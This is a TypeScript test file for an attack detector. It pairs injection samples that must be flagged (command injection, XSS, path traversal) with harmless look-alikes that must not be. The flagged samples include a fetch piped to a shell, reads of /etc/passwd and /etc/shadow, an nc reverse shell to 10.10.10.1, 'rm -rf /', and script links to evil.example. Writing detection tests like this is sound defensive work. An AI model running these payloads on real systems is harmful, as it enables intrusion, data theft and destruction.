/**
 * The fifth rce round (docs/detection.md, "The rce language round, fifth session (branch
 * i18-rce5)"): shown scripts and prose about commands made quiet, and command forms read from the
 * grammar of the program that runs them. Each class beside the look-alikes that must stay as they are.
 */
import { AttackDetector } from '../../../node/analysis/attacks';
import { exampleTable, RELAXED } from './helpers';

const detector = new AttackDetector(RELAXED);

// A shown script's own steps (a loop body given options or counts, a profile's lines after its
// `export`): quiet as rce. The same steps outside a shown script, or with what an attack needs
// (a probe alone, a system file, a fetch piped to a shell): still rce.
exampleTable(
  detector,
  [
    ['rce', ';sleep 5'],
    ['rce', 'while true; do id; done'],
    ['rce', 'while true; do curl http://dl.example.net/a.sh | sh; done'],
    ['rce', 'for f in *.log; do cat /etc/passwd; done'],
    ['rce', 'export PATH=/tmp:$PATH\ncat /etc/shadow'],
    ['rce', 'export X=1\nwhoami'],
  ],
  [
    'while true; do date; sleep 1; done',
    'for f in *.log; do gzip -9 "$f"; done',
    'while true; do sleep 0.5; done',
    'export PATH=/usr/local/bin:$PATH\nnode -v',
  ],
  ['q', 'json', 'form'],
  ['rce'],
);

// A program named as Markdown's inline code in a short sentence (a word of prose before it, text
// after it): quiet as rce. A substitution alone, after a command, glued to a word or ending the
// value: still rce.
exampleTable(
  detector,
  [
    ['rce', '`id`'],
    ['rce', 'x `id`'],
    ['rce', 'echo `id` x'],
    ['rce', 'a`id`b'],
    ['rce', ';`whoami`'],
  ],
  ['use `ls` to list files', 'You can use `ls` to list the files', 'try `pwd` now'],
  ['q', 'json', 'form'],
  ['rce'],
);

// An element whose links are a server template's placeholders (template source shown as text):
// quiet as xss. A link to another host, a script file, a handler or srcdoc beside a placeholder:
// still xss.
exampleTable(
  detector,
  [
    ['xss', '<link rel=stylesheet href=//evil.example/x.css>'],
    ['xss', '<link href="xss.js" rel=stylesheet type="text/javascript">'],
    ['xss', '<link href="{{ x }}" onload="alert(1)">'],
    ['xss', '<iframe src="{{ url }}" srcdoc="<script>alert(1)</script>">'],
    ['xss', '<link href="{{ a }}" rel=import href="//evil.example/x">'],
  ],
  [
    '<link href="{{ asset(\'app.css\') }}">',
    '<link href="{{ asset(\'app.css\') }}" rel="stylesheet">',
    '<link rel="stylesheet" href="{% static \'site.css\' %}">',
  ],
  ['q', 'json', 'form'],
  ['xss'],
);

// sqlite3's shell commands after a separator: `.shell`/`.system` by any prefix of two letters or
// more, quoted or after blanks, and the commands that list a database when the value opens with a
// separator. A file name with `.sh`, prose naming a dot command: quiet.
exampleTable(
  detector,
  [
    ['rce', '1;.sh whoami'],
    ['rce', '1;."shell" whoami'],
    ['rce', ';\\n.databases'],
    ['rce', '";\\n. shell nc 10.10.10.1 6666 -e sh\\n'],
    ['rce', ';.sy id'],
  ],
  ['see run.sh; .shell is a sqlite command', 'notes;.tables and more', 'build.sh;deploy.sh'],
  ['q', 'json', 'form'],
  ['rce'],
);

// vi and ex given an ex command that runs a shell (`+!cmd`, `+silent !cmd`, `-c ':!cmd'`). An
// editor opened at a line or with an option set: quiet.
exampleTable(
  detector,
  [
    ['rce', ';vi dddd +silent\\ \\!whoami +wq'],
    ['rce', ';ex dddd +silent\\ \\!whoami +wq\n'],
    ['rce', "vim -c ':!id' x"],
  ],
  ['vi +10 file.txt', 'open it in vim with +set nu', 'vim +set nu notes.txt'],
  ['q', 'json', 'form'],
  ['rce'],
);

// `<?xml` that is PHP's short tag before a label or a call, not an XML declaration. Word's pasted
// namespace instruction and XML declarations: quiet.
exampleTable(
  detector,
  [
    ['rce', '<?xml:echo 1;'],
    ['rce', '<?xml :echo 1;'],
    ['rce', '<?xml \t\t ();echo 1;'],
    ['rce', '<?xml :fputCSV($f, array("foo", "bar"));'],
  ],
  [
    '<?xml:namespace prefix = o ns = "urn:schemas-microsoft-com:office:office" />',
    '<?xml version="1.0"?><a>x</a>',
    '<?xml version="1.0" encoding="UTF-8"?>\n<note>call (555) 0100</note>',
  ],
  ['q', 'json', 'form'],
  ['rce'],
);

// A User-Agent that is a program's command line (the program, then bare words, no product
// version or comment). Clients' own agents, a program's name alone, and the same words in a query
// (a search): quiet.
exampleTable(
  detector,
  [
    ['rce', 'cscli alerts list'],
    ['rce', 'ansible-vault decrypt secret'],
    ['rce', '"cscli alerts list"'],
    ['rce', 'ansible-galaxy collection install community.general'],
  ],
  [
    'ansible-httpget',
    'node',
    'curl/8.4.0',
    'python-requests/2.31.0',
    'npm/9.6.7 node/v20.3.1 linux x64 workspaces/false',
    'npm install url-join',
  ],
  ['ua'],
  ['rce'],
);
exampleTable(detector, [], ['cscli alerts list', 'pip install requests'], ['q', 'json', 'form'], ['rce']);

// A probe word quoted as the whole value (the shell drops the quotes). Other quoted words, and
// quoted names in a list: quiet.
exampleTable(
  detector,
  [
    ['rce', "'id'"],
    ['rce', '"id"'],
    ['rce', "'uname'"],
    ['rce', '"whoami"'],
  ],
  ["'dir'", "'id' or 'name'", '"id", "name"', "'true'"],
  ['q', 'json', 'form'],
  ['rce'],
);

// A parameter named for a command given a program that is no English word and any arguments.
// An application's verbs there, with or without a word: quiet.
exampleTable(
  detector,
  [
    ['rce', '/run?cmd=python3.10%20cmd'],
    ['rce', '/x?command=ansible-vault%20decrypt%20secret'],
    ['rce', "/x?cmd='curl%20x.example.net'"],
    ['rce', '/x?cmd=%22id%22'],
  ],
  ['/x?cmd=list', '/x?command=search%20users', '/x?cmd=ping', '/x?command=find%20users', "/x?cmd='list'"],
  ['path'],
  ['rce'],
);

// A file reader given a system file written from the root's directories without the leading `/`
// (what a command run from `/` reads), options allowed: ptrav, the file being what is asked for.
// A project's own `etc/` file and a directory listed: quiet.
exampleTable(
  detector,
  [
    ['ptrav', 'cat etc/passwd'],
    ['ptrav', 'more etc/shadow'],
    ['ptrav', 'head -n 5 etc/passwd'],
    ['ptrav', 'tail -f /var/log/nginx/access.log'],
  ],
  ['cat etc/os-release', 'cat etc/config.yml', 'ls etc', 'see etc/passwd'],
  ['q', 'json', 'form'],
  ['ptrav'],
);

// Probes a payload list sends bare, written from the shell's grammar: a delay and a count as the
// whole value, the root as a command's last argument, a marker echoed after a leading separator, a
// probe word whose tail is cut by a comment. Prose with the same words: quiet.
exampleTable(
  detector,
  [
    ['rce', 'sleep 5'],
    ['rce', 'sleep 10s'],
    ['rce', 'rm -rf /'],
    ['rce', 'ls -la /'],
    ['rce', '; echo vulnerable'],
    ['rce', 'id;#'],
  ],
  [
    'sleep 5 hours',
    'I need sleep 5',
    'ID #5',
    'id#',
    '; see also',
    'see /',
    'path: /',
    'and/or /',
    'cd /',
    'cron: (root) CMD (cd / && run-parts --report /etc/cron.hourly)',
  ],
  ['q', 'json', 'form'],
  ['rce'],
);
